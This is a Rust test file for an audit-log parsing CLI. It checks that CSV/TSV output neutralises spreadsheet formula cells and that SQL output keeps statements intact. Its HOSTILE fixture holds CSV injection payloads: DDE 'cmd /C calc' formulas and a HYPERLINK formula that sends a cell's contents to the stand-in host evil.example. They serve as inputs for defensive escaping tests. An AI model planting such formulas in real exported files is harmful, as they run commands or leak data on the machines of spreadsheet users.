//! Output that cannot be turned against its reader: CSV/TSV cells that a spreadsheet would run
//! as a formula are neutralised (OWASP's CSV injection rule), and `--format sql` never turns a
//! statement into a different one by putting it on one line.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod cli_common;

use cli_common::*;

/// A failed login's user name, the host and even the server host are attacker text.
/// (A raw CR ends a line, so a value starts with one only in a statement, where the plugin
/// writes it `\r`.)
const HOSTILE: &[u8] = b"20240615 10:31:00,=cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-1.2.3.4,7,1,QUERY,-2+3,'=HYPERLINK(\"http://evil.example/?\"&A1)',0\n\
20240615 10:31:01,db1,\tuser,host,7,2,FAILED_CONNECT,,,1045\n\
20240615 10:31:02,db1,app,host,7,3,QUERY,,'\\r+SUM(A1)',0\n";

/// The rows, each a map from column name to cell.
fn cells(args: &[&str], input: &[u8]) -> Vec<std::collections::HashMap<String, String>> {
    let out = rdsaudit()
        .arg("parse")
        .args(args)
        .arg("-")
        .write_stdin(input)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let format = if args.contains(&"tsv") { "tsv" } else { "csv" };
    let rows = table(&out.stdout, format);
    let headers = rows[0].clone();
    rows[1..]
        .iter()
        .map(|r| headers.iter().cloned().zip(r.iter().cloned()).collect())
        .collect()
}

fn column(rows: &[std::collections::HashMap<String, String>], row: usize, name: &str) -> String {
    rows[row][name].clone()
}

#[test]
fn csv_and_tsv_cells_that_start_a_formula_are_neutralised() {
    for format in ["csv", "tsv"] {
        let rows = cells(&["--format", format], HOSTILE);
        assert_eq!(column(&rows, 0, "serverhost"), "'=cmd|' /C calc'!A0");
        assert_eq!(column(&rows, 0, "username"), "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(column(&rows, 0, "host"), "'-1.2.3.4");
        assert_eq!(column(&rows, 0, "database"), "'-2+3");
        assert_eq!(
            column(&rows, 0, "object"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1)"
        );
        assert_eq!(column(&rows, 1, "username"), "'\tuser");
        assert_eq!(column(&rows, 2, "object"), "'\r+SUM(A1)");
        // Harmless cells are untouched.
        assert_eq!(column(&rows, 1, "serverhost"), "db1");
        assert_eq!(column(&rows, 1, "retcode"), "1045");
    }
}

#[test]
fn csv_raw_writes_the_values_as_they_are() {
    let rows = cells(&["--format", "csv", "--csv-raw"], HOSTILE);
    assert_eq!(column(&rows, 0, "serverhost"), "=cmd|' /C calc'!A0");
    assert_eq!(column(&rows, 0, "database"), "-2+3");
    assert_eq!(column(&rows, 1, "username"), "\tuser");
}

fn sql(lines: &[&str]) -> Vec<String> {
    let mut input = String::new();
    for (i, object) in lines.iter().enumerate() {
        input.push_str(&format!(
            "20240615 10:31:00,db1,app,10.0.0.5,7,{i},QUERY,shop,'{object}',0\n"
        ));
    }
    let out = rdsaudit()
        .args(["parse", "--format", "sql", "-"])
        .write_stdin(input)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    let mut lines = text.lines();
    // Every statement ran in `shop`: one `USE` first.
    assert_eq!(lines.next(), Some("USE `shop`;"));
    lines.map(str::to_owned).collect()
}

#[test]
fn a_line_comment_does_not_swallow_the_rest_of_the_statement() {
    // Objects as the plugin writes them: a newline is `\n`, a quote `\'`.
    let got = sql(&[
        r"DELETE FROM t -- note\nWHERE id<10",
        r"SELECT 1 # hash comment\n, 2",
        r"DELETE FROM t -- a */ b\nWHERE id=1",
        r"SELECT 1 -- a trailing comment",
        r"UPDATE t SET a=1 -- x;",
        r"SELECT \'--not a comment\' FROM t",
        r"SELECT 1--1\n",
    ]);
    assert_eq!(
        got,
        [
            "DELETE FROM t /* note */ WHERE id<10;",
            "SELECT 1 /* hash comment */ , 2;",
            "DELETE FROM t /* a * / b */ WHERE id=1;",
            "SELECT 1 /* a trailing comment */;",
            "UPDATE t SET a=1 /* x; */;",
            "SELECT '--not a comment' FROM t;",
            "SELECT 1--1;",
        ]
    );
}

#[test]
fn line_breaks_inside_strings_are_kept_as_escapes() {
    let got = sql(&[r"INSERT INTO t VALUES (\'a\nb\r\nc\')", r"SELECT 2"]);
    assert_eq!(got, [r"INSERT INTO t VALUES ('a\nb\r\nc');", "SELECT 2;"]);
}

#[test]
fn a_statement_cut_inside_a_string_or_comment_is_not_written_as_sql() {
    // What a statement past server_audit_query_log_limit looks like: cut mid-string. Written
    // as SQL, its `;` would be inside the string and the next statement would join it.
    let got = sql(&[
        r"INSERT INTO t VALUES (\'abc",
        r"SELECT 1 /* unterminated",
        r"SELECT `col\nname` FROM t",
        r"SELECT 2",
    ]);
    assert_eq!(got.len(), 4, "{got:?}");
    for line in &got[..3] {
        assert!(line.starts_with("-- "), "{line}");
    }
    assert_eq!(got[3], "SELECT 2;");
}

#[test]
fn sql_lines_carry_the_event_id_for_de_duplication() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = corpus(rdsaudit::Dialect::Aurora, 2, 10, 0);
    let event = write(dir.path(), "event.json", &corpus.kinesis_event());
    let out = rdsaudit()
        .args(["parse", "--format", "sql", "--operation", "QUERY"])
        .arg(&event)
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let queries: Vec<_> = corpus
        .lines()
        .filter(|l| l.expected.operation == "QUERY")
        .collect();
    let lines: Vec<&str> = text
        .lines()
        .filter(|l| !l.starts_with("USE ") && !l.starts_with("-- rdsaudit: no database"))
        .collect();
    assert_eq!(lines.len(), queries.len());
    for (line, q) in lines.iter().zip(queries) {
        assert!(
            line.ends_with(&format!("; -- event_id={}", q.event_id)),
            "{line}"
        );
    }
}

/// The output replays what the server did: a refused statement is not run, and each
/// statement runs in its session's database, whichever thread wrote its piece.
#[test]
fn sql_runs_what_the_server_ran_in_its_database() {
    let mut input = String::new();
    for i in 0..30_000 {
        let (db, retcode) = match i % 7 {
            0 => ("shop", 0),
            1 | 2 => ("billing", 0),
            3 => ("", 0),
            4 => ("shop", 1146),
            _ => ("shop", 0),
        };
        input.push_str(&format!(
            "20240615 10:31:00,db1,app,10.0.0.5,7,{i},QUERY,{db},'DELETE FROM t WHERE id={i}',{retcode}\n"
        ));
    }
    let run = |threads: &str| {
        let out = rdsaudit()
            .args(["parse", "-q", "--format", "sql", "--threads", threads, "-"])
            .write_stdin(input.clone())
            .output()
            .unwrap();
        assert!(out.status.success());
        String::from_utf8(out.stdout).unwrap()
    };
    let one = run("1");
    assert_eq!(run("2"), one);
    let lines: Vec<&str> = one.lines().collect();
    assert_eq!(
        &lines[..5],
        [
            "USE `shop`;",
            "DELETE FROM t WHERE id=0;",
            "USE `billing`;",
            "DELETE FROM t WHERE id=1;",
            "DELETE FROM t WHERE id=2;",
        ]
    );
    assert_eq!(
        lines[5],
        "-- rdsaudit: no database selected from here on (USE cannot unselect one)"
    );
    assert_eq!(lines[6], "DELETE FROM t WHERE id=3;");
    assert_eq!(lines[7], "USE `shop`;");
    assert_eq!(
        lines[8],
        "-- rdsaudit: not run, the server returned error 1146: DELETE FROM t WHERE id=4"
    );
    // No `USE` repeats the database already in use.
    let mut current = "";
    for line in &lines {
        if let Some(db) = line.strip_prefix("USE ") {
            assert_ne!(db, current);
            current = db;
        }
    }
}
